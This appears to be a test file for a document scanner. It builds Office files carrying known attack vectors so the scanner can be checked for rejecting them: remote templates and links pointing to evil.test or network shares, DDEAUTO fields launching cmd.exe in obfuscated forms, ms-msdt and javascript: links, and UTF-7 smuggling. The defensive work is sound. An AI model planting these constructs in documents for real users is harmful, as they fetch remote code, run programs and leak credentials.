"""Office documents that fetch something when they are opened, or lead a reader where nobody should go."""

from lscp_portal.files.types import Reason
from tests.files.hostile.case import Case, cases
from tests.files.making import office, relation

BOOK = "xl/_rels/workbook.xml.rels"


def field(*pieces: str) -> str:
    """A field of Word, its words in pieces."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r>'


def word(kind: str, target: str, mode: str = "External") -> bytes:
    """A Word document with one relationship."""
    return office(parts=relation(kind, target, mode))


def excel(kind: str, target: str) -> bytes:
    """The same for Excel."""
    return office("xlsx", relation(kind, target, "External", BOOK))


FETCHING: dict[str, Case] = cases({
    "template from a server": ("docx", word("attachedTemplate", "https://evil.test/a"), Reason.FETCHES),
    "template over http": ("docx", word("attachedTemplate", "http://evil.test/a.dotm"), Reason.FETCHES),
    "template from a share": ("docx", word("attachedTemplate", r"\\evil.test\a.dotx"), Reason.FETCHES),
    "template, said to be inside": ("docx", word("attachedTemplate", "https://evil.test/a", ""), Reason.FETCHES),
    "template in small letters": ("docx", word("attachedtemplate", "https://evil.test/a"), Reason.FETCHES),
    "picture from a server": ("docx", word("image", "http://evil.test/a.png"), Reason.FETCHES),
    "picture from a share": ("pptx", office("pptx", relation("image", "file:////evil/a.png")), Reason.FETCHES),
    "picture over https": ("docx", word("image", "https://evil.test/a.png"), Reason.FETCHES),
    "mode in capitals": ("docx", word("image", "http://evil.test/a.png", "EXTERNAL"), Reason.FETCHES),
    "mode with spaces": ("docx", word("image", "http://evil.test/a.png", " External "), Reason.FETCHES),
    "another workbook": ("xlsx", excel("externalLinkPath", "b.xlsx"), Reason.FETCHES),
    "another workbook on a server": ("xlsx", excel("externalLinkPath", "https://evil.test/b.xlsx"), Reason.FETCHES),
    "a part of the document": ("docx", word("subDocument", "b.docx"), Reason.FETCHES),
    "a frame": ("docx", word("frame", "https://evil.test/"), Reason.FETCHES),
    "addresses for letters": ("docx", word("mailMergeSource", "file:///c:/a.mdb"), Reason.FETCHES),
    "film": ("pptx", office("pptx", relation("video", "https://evil.test/a.mp4")), Reason.FETCHES),
    "link to a share": ("docx", word("hyperlink", "file://evil.test/a"), Reason.FETCHES),
    "link to a share, back strokes": ("docx", word("hyperlink", r"\\evil.test\a"), Reason.FETCHES),
    "link that runs": ("docx", word("hyperlink", " JavaScript:alert(1)"), Reason.FETCHES),
    "link to a tool of Windows": ("docx", word("hyperlink", "ms-msdt:/id PCWDiagnostic"), Reason.FETCHES),
    "link to a search of Windows": ("docx", word("hyperlink", "search-ms:query=a"), Reason.FETCHES),
    "table filled when opened": (
        "xlsx", office("xlsx", {"xl/connections.xml": '<c><connection refreshOnLoad="1"/></c>'}), Reason.FETCHES,
    ),
    "picture by a field": ("docx", office(body=field("INCLUDEPICTURE http://evil.test/a.png")), Reason.FETCHES),
    "words by a field": ("docx", office(body=field("INCLUDE", "TEXT c:\\\\a.docx")), Reason.FETCHES),
    "DDE field": ("docx", office(body=field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")), Reason.PROGRAM_DATA),
    "DDE field in pieces": ("docx", office(body=field(" D", "D", "E c:\\\\a.exe")), Reason.PROGRAM_DATA),
    "DDE field in quotes": ("docx", office(body=field('"DD"', '"EAUTO" x')), Reason.PROGRAM_DATA),
    "DDE after another field": ("docx", office(body=field("PAGE MERGEFORMAT") + field("dde x")), Reason.PROGRAM_DATA),
    "DDE simple field": ("docx", office(body='<w:fldSimple w:instr="DDE x"/>'), Reason.PROGRAM_DATA),
    "DDE in a header": (
        "docx",
        office(parts={"word/header1.xml": f'<h xmlns:w="w">{field("DDE x")}</h>'}),
        Reason.PROGRAM_DATA,
    ),
    "DDE of a workbook": ("xlsx", office("xlsx", {"xl/externalLinks/a.xml": "<a><ddeLink/></a>"}), Reason.PROGRAM_DATA),
    "DDE of a workbook, elsewhere": ("xlsx", office("xlsx", {"xl/a.xml": "<a><ddeItems/></a>"}), Reason.PROGRAM_DATA),
    "words in another alphabet of bytes": (
        "docx",
        office(parts={"word/a.xml": b'<?xml version="1.0" encoding="utf-7"?><a>+ADw-b/+AD4-</a>'}),
        Reason.UNSAFE_WORDS,
    ),
    "words of a mainframe": (
        "docx",
        office(parts={"word/a.xml": '<?xml version="1.0" encoding="cp037"?><a/>'.encode("cp037")}),
        Reason.DAMAGED,
    ),
})  # fmt: skip
